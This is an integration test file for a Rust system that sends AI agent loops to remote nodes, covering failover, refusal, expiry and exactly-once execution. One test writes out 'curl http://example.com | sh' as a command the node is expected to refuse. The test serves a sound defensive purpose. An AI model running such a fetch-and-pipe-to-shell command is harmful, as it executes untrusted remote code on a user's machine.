//! Loops that run on other machines: sent, taken, brought back; a node that is cut off, and many runs at once. Real servers,
//! real git, real processes.

use loopdeck_agents::Level;
use loopdeck_core::control::Verb;
use loopdeck_runtime::drivers::plan::StartForm;
use loopdeck_runtime::drivers::rows::RunView;
use loopdeck_runtime::runs::GuardianProgram;
use loopdeck_runtime::views::FailureKind;
use loopdeck_runtime::{Options, Runtime};
use loopdeck_team::seat::{Role, Seat};
use loopdeck_team::{Home, IfGone, JobStage, JobView, NodeRules, Participation, Target, Team};
use loopdeck_tests::driving::{develops, one_task_form, processes_in};
use loopdeck_tests::repository::{commit_all, git};
use loopdeck_tests::scripted::{Output, Scripted, Step};
use loopdeck_tests::team::{Machine, Programs, SCRIPTED, Server};
use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::Arc;
use tempfile::TempDir;
use xtask::child::{Owned, bound_command};

/// The repository of everybody: an agent's script, and nothing of loops.
pub(crate) fn repository(script: &Scripted) -> impl Fn(&Path) {
    move |folder: &Path| {
        script.put_into(folder);
        fs::write(folder.join(".gitignore"), ".workflow/\n").unwrap();
        commit_all(folder);
    }
}

pub(crate) fn programs() -> Programs {
    Programs {
        guardian: env!("CARGO_BIN_EXE_guardian").into(),
        agent: env!("CARGO_BIN_EXE_scripted_agent").into(),
    }
}

fn asker(server: &mut Server, script: &Scripted) -> Machine {
    let mut bob = server.runner("bob.laptop", Role::Member, &programs(), repository(script));
    bob.runtime.trust(&bob.workspace.to_string_lossy(), true).unwrap();
    bob.open();
    bob
}

/// A node with a clone of `of`'s repository.
fn node(server: &mut Server, seat: &str, of: &Machine, rules: &NodeRules) -> Machine {
    server.node(seat, &programs(), &of.workspace, rules.clone())
}

/// A lease that a machine under load can keep, and whose end a test can wait for.
fn rules() -> NodeRules {
    NodeRules { lease_seconds: 20, ..NodeRules::default() }
}

pub(crate) fn form(of: &Machine) -> StartForm {
    one_task_form(&of.workspace, SCRIPTED)
}

/// An agent that works until its gate is open, and writes a note. Each start is a line of the log, each end another.
fn works(log: &Path, gate: Option<&Path>) -> Scripted {
    let note = |word: &str| Step::Shell(format!("echo {word} $PWD >> {}", log.display()));
    let mut rule = develops("task-001").then(Step::Say("looking around".into())).then(note("begins"));
    if let Some(gate) = gate {
        rule = rule.then(Step::WaitFor(gate.to_owned()));
    }
    let write = Step::Write { path: "note.txt".into(), text: "noted".into() };
    Scripted { output: Output::Text, rules: vec![rule.then(write).then(note("ends"))] }
}

fn at(seat: &str) -> Target {
    Target::Machine { seat: Seat::parse(seat).unwrap() }
}

/// Sends once a node offers what is wanted.
fn send(of: &Machine, form: &StartForm, target: &Target, if_gone: IfGone) -> String {
    of.until("a node", || match of.team.as_ref().unwrap().send_run(form, target.clone(), if_gone) {
        Err(failure) if failure.kind == FailureKind::NoMachineForRun => None,
        sent => Some(sent.unwrap()),
    })
}

fn job(of: &Machine, id: &str) -> JobView {
    of.team.as_ref().unwrap().jobs().into_iter().find(|job| job.id == id).unwrap()
}

fn until_stage(of: &Machine, id: &str, stage: JobStage) -> JobView {
    of.until(&format!("{stage:?}"), || {
        let job = job(of, id);
        assert!(job.stage == stage || job.why.is_none(), "{job:#?}");
        (job.stage == stage).then_some(job)
    })
}

pub(crate) fn lines(log: &Path) -> Vec<String> {
    fs::read_to_string(log).unwrap_or_default().lines().map(str::to_owned).collect()
}

/// Processes of agents in the worktrees of a machine.
fn at_work(machine: &Machine) -> Vec<u32> {
    let entries = fs::read_dir(machine.runtime.worktrees()).into_iter().flatten().flatten();
    entries.flat_map(|entry| processes_in(&entry.path().join("shop"))).collect()
}

fn place() -> (TempDir, PathBuf, PathBuf) {
    let place = tempfile::tempdir().unwrap();
    let (log, gate) = (place.path().join("log"), place.path().join("gate"));
    (place, log, gate)
}

#[test]
fn a_loop_runs_on_a_node_is_seen_and_steered_and_its_work_comes_back_as_a_branch() {
    let mut server = Server::start();
    let (_place, log, gate) = place();
    let bob = asker(&mut server, &works(&log, Some(&gate)));
    let ada = node(&mut server, "ada.tower", &bob, &rules());
    // A commit that the node does not have.
    fs::write(bob.workspace.join("more.txt"), "more").unwrap();
    git(&bob.workspace, &["add", "."]);
    git(&bob.workspace, &["commit", "-qm", "more"]);

    let id = send(&bob, &form(&bob), &at("ada.tower"), IfGone::Continue);
    let running = until_stage(&bob, &id, JobStage::Running);
    assert_eq!(running.seat.as_ref().map(Seat::to_string).as_deref(), Some("ada.tower"));
    bob.until("at work", || (lines(&log).len() == 1).then_some(()));
    let key = bob
        .until("its loop", || job(&bob, &id).key.filter(|key| bob.rows().iter().any(|row| row.key == *key)));
    let row = bob
        .until("a row", || bob.rows().into_iter().find(|row| row.key == key && row.file_word == "running"));
    assert!(row.verbs.contains(&Verb::Pause), "{row:#?}");
    assert!(!ada.workspace.join("more.txt").exists(), "the node's own folder stays as it is");
    bob.until("its output", || {
        let page = bob.runtime.output(&key, None, 0, 100).unwrap();
        page.rows.iter().any(|row| row.text.contains("looking around")).then_some(())
    });

    fs::write(&gate, "").unwrap();
    let ended = until_stage(&bob, &id, JobStage::Ended);
    assert_eq!(ended.word.as_deref(), Some("completed"));
    bob.until("the result", || job(&bob, &id).has_result.then_some(()));
    let team = bob.team.as_ref().unwrap();
    let branch = team.take_in(&id).unwrap();
    assert_eq!(git(&bob.workspace, &["show", &format!("{branch}:note.txt")]), "noted");
    assert_eq!(git(&bob.workspace, &["show", &format!("{branch}:more.txt")]), "more");
    assert!(!bob.workspace.join("note.txt").exists(), "nothing is checked out");
    let files = git(&bob.workspace, &["ls-tree", "-r", "--name-only", &branch]);
    assert!(!files.contains(".workflow"), "{files}");
    assert_eq!(team.take_in(&id).unwrap(), branch, "asked twice");
    assert_eq!(lines(&log).len(), 2);
    // Its time is over: nothing more is done in that worktree, whoever asks.
    bob.until("completed there", || {
        bob.rows().into_iter().find(|row| row.key == key && row.file_word == "completed")
    });
    ada.until("closed there", || (ada.runtime.own_folders() == [ada.workspace.clone()]).then_some(()));
    assert!(bob.rows().iter().any(|row| row.key == key), "and it stays in the list of others");
    team.forget_job(&id).unwrap();
    assert!(team.jobs().is_empty());
}

#[test]
fn a_node_runs_only_what_its_owner_allowed() {
    let mut server = Server::start();
    let (_place, log, _) = place();
    let bob = asker(&mut server, &works(&log, None));
    let _ada = node(&mut server, "ada.tower", &bob, &rules());
    let refused = |change: fn(&mut StartForm), why: &str| {
        let mut form = form(&bob);
        change(&mut form);
        let id = send(&bob, &form, &at("ada.tower"), IfGone::Continue);
        let told = bob.until(why, || Some(job(&bob, &id)).filter(|job| job.stage == JobStage::Refused));
        assert_eq!(told.why.as_deref(), Some(why));
    };
    refused(|form| form.plan.test_command = "curl http://example.com | sh".into(), "command");
    refused(|form| form.plan.level = Some(Level::FullAccess), "level");
    refused(|form| form.plan.agent = "custom:other".into(), "agent");
    // What cannot travel is said before anything is sent.
    let mut form = form(&bob);
    form.plan.extra_args = vec!["--x".into()];
    let failure = bob.team.as_ref().unwrap().send_run(&form, at("ada.tower"), IfGone::Continue).unwrap_err();
    assert_eq!(failure.kind, FailureKind::RunHasArguments);
    let team = bob.team.as_ref().unwrap();
    let is_repository = || team.run_places(&bob.workspace).is_repository;
    assert!(is_repository());
    let folder = bob.workspace.to_string_lossy().into_owned();
    bob.runtime.trust(&folder, false).unwrap();
    form.plan.extra_args.clear();
    let failure = team.send_run(&form, at("ada.tower"), IfGone::Continue).unwrap_err();
    assert_eq!(failure.kind, FailureKind::Untrusted, "git is not asked in a folder that is not trusted");
    assert!(!is_repository());
    bob.runtime.trust(&folder, true).unwrap();
    git(&bob.workspace, &["config", "core.sshCommand", "false"]);
    let failure = team.send_run(&form, at("ada.tower"), IfGone::Continue).unwrap_err();
    assert_eq!((failure.kind, &*failure.args["what"]), (FailureKind::RepositoryChanged, "core.sshcommand"));
    assert_eq!(lines(&log), Vec::<String>::new(), "nothing was started");
}

#[test]
fn what_git_refuses_on_a_node_is_told_with_the_reason_and_frees_the_slot() {
    let mut server = Server::start();
    let (_place, log, _) = place();
    let bob = asker(&mut server, &works(&log, None));
    let ada = node(&mut server, "ada.tower", &bob, &NodeRules { slots: 1, ..rules() });
    // Git has nowhere to remember a worktree, however often it is asked to make one.
    let worktrees = ada.workspace.join(".git/worktrees");
    fs::write(&worktrees, "").unwrap();
    let id = send(&bob, &form(&bob), &at("ada.tower"), IfGone::Continue);
    let refused = until_stage(&bob, &id, JobStage::Refused);
    assert_eq!(refused.why.as_deref(), Some("git_refused"));
    assert!(refused.reason.as_ref().is_some_and(|said| said.contains("worktrees")), "{refused:#?}");
    assert_eq!(lines(&log), [""; 0], "nothing was started");

    fs::remove_file(&worktrees).unwrap();
    let id = send(&bob, &form(&bob), &at("ada.tower"), IfGone::Continue);
    assert_eq!(until_stage(&bob, &id, JobStage::Ended).word.as_deref(), Some("completed"));
}

/// The server forgets what waits in a queue, and no machine will ever tell of it.
#[test]
fn a_job_that_nobody_took_within_a_week_is_waited_for_no_longer() {
    let mut server = Server::start();
    let (_place, log, _) = place();
    let mut bob = asker(&mut server, &works(&log, None));
    let _ada = node(&mut server, "ada.tower", &bob, &rules());
    let (old, new) = {
        let too_large = Target::Any { memory_gb: 1 << 20 };
        let send = || send(&bob, &form(&bob), &too_large, IfGone::Continue);
        (send(), send())
    };
    for id in [&old, &new] {
        until_stage(&bob, id, JobStage::Queued);
    }
    bob.until("passed on", || (!job(&bob, &old).passed.is_empty()).then_some(()));
    bob.team.take();
    // It was sent eight days ago, and a minute more.
    let file = bob.home().shares().with_file_name("jobs").join(&old).join("job.json");
    let mut kept: serde_json::Value = serde_json::from_slice(&fs::read(&file).unwrap()).unwrap();
    let since = kept["since"].as_i64().unwrap();
    kept["since"] = (since - (8 * 24 * 60 + 1) * 60_000).into();
    fs::write(&file, kept.to_string()).unwrap();
    bob.open();
    let refused =
        bob.until("no longer", || Some(job(&bob, &old)).filter(|job| job.stage == JobStage::Refused));
    assert_eq!((refused.why.as_deref(), refused.seat), (Some("expired"), None));
    assert_eq!(job(&bob, &new).stage, JobStage::Queued, "the other one still waits");
    bob.team.as_ref().unwrap().forget_job(&old).unwrap();
}

/// What is remembered of a job is damaged while its node is not there: the person learns of it, and the job does not begin beside what
/// was begun.
#[test]
fn a_job_whose_memory_is_damaged_is_told_and_goes_on_as_if_somebody_else_had_it() {
    let mut server = Server::start();
    let (_place, log, gate) = place();
    let bob = asker(&mut server, &works(&log, Some(&gate)));
    let mut ada = node(&mut server, "ada.tower", &bob, &rules());
    let id = send(&bob, &form(&bob), &at("ada.tower"), IfGone::Interrupt);
    until_stage(&bob, &id, JobStage::Running);
    bob.until("at work", || (count(&log, "begins") == 1).then_some(()));
    ada.team.take();
    let file = ada.home().shares().with_file_name("lent").join(format!("{id}.json"));
    assert!(file.exists());
    fs::write(&file, "{oops").unwrap();
    ada.open();
    let told = ada.team.as_ref().unwrap().damaged_data();
    assert_eq!(told.len(), 1, "{told:?}");
    assert_eq!((told[0].kind, &*told[0].args["path"]), (FailureKind::SetAside, &*file.to_string_lossy()));
    assert_eq!(fs::read_to_string(&told[0].args["kept"]).unwrap(), "{oops");
    let over =
        bob.until("interrupted", || Some(job(&bob, &id)).filter(|job| job.stage == JobStage::Interrupted));
    assert_eq!(over.why, None);
    assert_eq!(count(&log, "begins"), 1, "it was not begun again");
    ada.until("its agent has ended", || at_work(&ada).is_empty().then_some(()));
    fs::write(&gate, "").unwrap();
}

/// A first task that is done at once, and a second one that waits for its gate.
fn works_twice(log: &Path, gate: &Path) -> Scripted {
    let note = |word: &str| Step::Shell(format!("echo {word} $PWD >> {}", log.display()));
    let write = Step::Write { path: "first.txt".into(), text: "first".into() };
    let first = develops("task-001").then(note("first")).then(write);
    let second =
        develops("task-002").then(note("begins")).then(Step::WaitFor(gate.to_owned())).then(note("ends"));
    Scripted { output: Output::Text, rules: vec![first, second] }
}

/// How often the log has a word.
fn count(log: &Path, word: &str) -> usize {
    lines(log).iter().filter(|line| line.starts_with(word)).count()
}

#[test]
fn a_node_that_is_cut_off_stops_and_another_continues() {
    let mut server = Server::start();
    let (_place, log, gate) = place();
    let bob = asker(&mut server, &works_twice(&log, &gate));
    let mut one = node(&mut server, "ada.one", &bob, &rules());
    let mut wanted = form(&bob);
    wanted.work.tasks.push("Write more".into());
    let id = send(&bob, &wanted, &Target::Any { memory_gb: 0 }, IfGone::Continue);
    bob.until("at the second task", || (count(&log, "begins") == 1).then_some(()));
    let worktree =
        fs::read_dir(one.runtime.worktrees()).unwrap().flatten().next().unwrap().path().join("shop");
    one.until("a checkpoint with the first task done", || {
        let report = server.report(&id, "ada.one")?;
        let commit = report["checkpoint"]["commit"].as_str()?;
        let files = git(&worktree, &["ls-tree", "-r", "--name-only", commit]);
        let state =
            files.lines().find(|file| file.starts_with(".workflow/.loop/") && file.ends_with(".json"))?;
        let state: serde_json::Value =
            serde_json::from_str(&git(&worktree, &["show", &format!("{commit}:{state}")])).ok()?;
        let tasks = state["skill_state"]["develop"]["tasks"].as_array()?;
        (files.contains("first.txt") && tasks[0]["status"] == "completed").then_some(())
    });
    let two = node(&mut server, "ada.two", &bob, &rules());

    one.team.take(); // the network is gone, and everything else is alive
    two.until("the other one has it", || (count(&log, "begins") == 2).then_some(()));
    assert_eq!(at_work(&one), Vec::<u32>::new(), "never two agents on one loop");
    assert_eq!(count(&log, "first"), 1, "what was done is not done again");
    let before = files_of(&worktree);

    one.open();
    fs::write(&gate, "").unwrap();
    let ended = until_stage(&bob, &id, JobStage::Ended);
    assert_eq!(ended.seat.as_ref().map(Seat::machine), Some("two"));
    assert_eq!(count(&log, "ends"), 1);
    assert_eq!(files_of(&worktree), before, "what came back has written nothing");
}

#[test]
fn a_run_that_nobody_is_to_continue_stays_interrupted() {
    let mut server = Server::start();
    let (_place, log, gate) = place();
    let bob = asker(&mut server, &works(&log, Some(&gate)));
    let mut one = node(&mut server, "ada.one", &bob, &rules());
    let id = send(&bob, &form(&bob), &Target::Any { memory_gb: 0 }, IfGone::Interrupt);
    bob.until("at work", || (lines(&log).len() == 1).then_some(()));
    until_stage(&bob, &id, JobStage::Running);
    let _two = node(&mut server, "ada.two", &bob, &rules());
    one.team.take();
    let told = until_stage(&bob, &id, JobStage::Interrupted);
    assert_eq!(told.seat.as_ref().map(Seat::machine), Some("one"), "whose it was");
    assert_eq!((lines(&log).len(), at_work(&one)), (1, Vec::new()));
}

fn files_of(folder: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut found = Vec::new();
    let mut folders = vec![folder.to_owned()];
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(folder).unwrap().flatten() {
            match entry.file_type().unwrap() {
                kind if kind.is_dir() => folders.push(entry.path()),
                _ => found.push((entry.path(), fs::read(entry.path()).unwrap())),
            }
        }
    }
    found.sort();
    found
}

const FOLDER: &str = "LOOPDECK_TEST_NODE";

/// Another process: a node that works until it is killed.
#[test]
fn child_that_works() {
    let Some(folder) = std::env::var_os(FOLDER).map(PathBuf::from) else { return };
    let guardian = GuardianProgram { program: programs().guardian, args: Vec::new() };
    let data = folder.join("data");
    let options = Options { guardian: Some(guardian), ..Options::new(data.clone()) };
    let runtime = Arc::new(Runtime::start(&options).unwrap());
    let _team = Team::start(&runtime, Home::new(&data), Participation::Full, Box::new(|| {})).unwrap();
    loop {
        std::thread::park();
    }
}

/// A node in a process of its own, as nodes are.
pub(crate) struct NodeProcess {
    process: Option<Owned>,
    folder: TempDir,
}

impl NodeProcess {
    pub(crate) fn start(node: Machine) -> Self {
        let mut process = Self::ended(node);
        process.run();
        process
    }

    /// What a node has left on its disk.
    pub(crate) fn ended(node: Machine) -> Self {
        Self { process: None, folder: node.into_folder() }
    }

    /// Starts it again after [`NodeProcess::kill`].
    pub(crate) fn run(&mut self) {
        let mut command = bound_command(std::env::current_exe().unwrap());
        command.args(["--exact", "team_runs::child_that_works"]).env(FOLDER, self.folder.path());
        command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
        self.process = Some(Owned::spawn(&mut command).unwrap());
    }

    /// With SIGKILL.
    pub(crate) fn kill(&mut self) {
        if let Some(mut process) = self.process.take() {
            process.child().kill().unwrap();
            process.child().wait().unwrap();
        }
    }

    /// Ends it. What its journal has of each loop in its worktrees: the runs, oldest first.
    pub(crate) fn journaled(mut self) -> Vec<Vec<String>> {
        self.kill();
        let runtime = Runtime::start(&Options::new(self.folder.path().join("data"))).unwrap();
        let worktrees = fs::read_dir(runtime.worktrees()).into_iter().flatten().flatten();
        worktrees.map(|worktree| runs_in(&runtime, &worktree.path().join("shop"))).collect()
    }
}

fn runs_in(runtime: &Runtime, worktree: &Path) -> Vec<String> {
    let id = runtime.open_workspace(worktree).unwrap();
    let rows = runtime.changes(0).rows.into_iter().filter(|row| row.workspace == id);
    let runs: Vec<RunView> = rows.flat_map(|row| runtime.runs(&row.key).unwrap()).collect();
    runtime.close_workspace(&id).unwrap();
    let told = |run: &RunView| {
        let outcome = serde_json::to_value(run.outcome).unwrap();
        format!("{} {} {}", run.action, run.task.as_deref().unwrap_or("-"), outcome.as_str().unwrap_or("-"))
    };
    runs.iter().rev().map(told).collect()
}

/// The runs of a loop that was carried out once.
pub(crate) const ONCE: [&str; 2] = ["develop task-001 ok", "validate - ok"];

/// Runs of which each is to be carried out by one of two nodes.
const RUNS: usize = 200;

#[test]
fn of_two_hundred_runs_on_two_nodes_each_runs_once() {
    let mut server = Server::start();
    let (_place, log, _) = place();
    let bob = asker(&mut server, &works(&log, None));
    let busy = NodeRules { slots: 6, ..NodeRules::default() };
    let nodes = ["ada.one", "ada.two"]
        .map(|seat| NodeProcess::start(server.closed_node(seat, &programs(), &bob.workspace, busy.clone())));
    let any = Target::Any { memory_gb: 0 };
    send(&bob, &form(&bob), &any, IfGone::Continue);
    let team = bob.team.as_ref().unwrap();
    (1..RUNS).for_each(|_| drop(team.send_run(&form(&bob), any.clone(), IfGone::Continue).unwrap()));
    // Each is waited for in turn: together they take as long as the machine needs.
    (1..=RUNS).for_each(|number| bob.until("an end", || (count(&log, "ends") >= number).then_some(())));
    let jobs = bob.until("all told", || {
        let jobs = team.jobs();
        jobs.iter().all(|job| job.stage == JobStage::Ended).then_some(jobs)
    });
    assert_eq!(jobs.len(), RUNS);
    assert!(jobs.iter().all(|job| job.word.as_deref() == Some("completed")), "{jobs:#?}");
    let [one, two] = nodes.map(NodeProcess::journaled);
    let otherwise: Vec<_> = one.iter().chain(&two).filter(|runs| **runs != ONCE).collect();
    assert_eq!(otherwise, Vec::<&Vec<String>>::new(), "once each");
    let (one, two) = (one.len(), two.len());
    assert_eq!(one + two, RUNS, "none is missing, and none is on both: {one} + {two}");
    assert!(one > 0 && two > 0, "both took some: {one} + {two}");
    // The same as the agents tell it.
    let log = lines(&log);
    let begun: BTreeSet<&String> = log.iter().filter(|line| line.starts_with("begins")).collect();
    assert_eq!((begun.len(), log.len()), (RUNS, 2 * RUNS), "each in a worktree of its own");
}
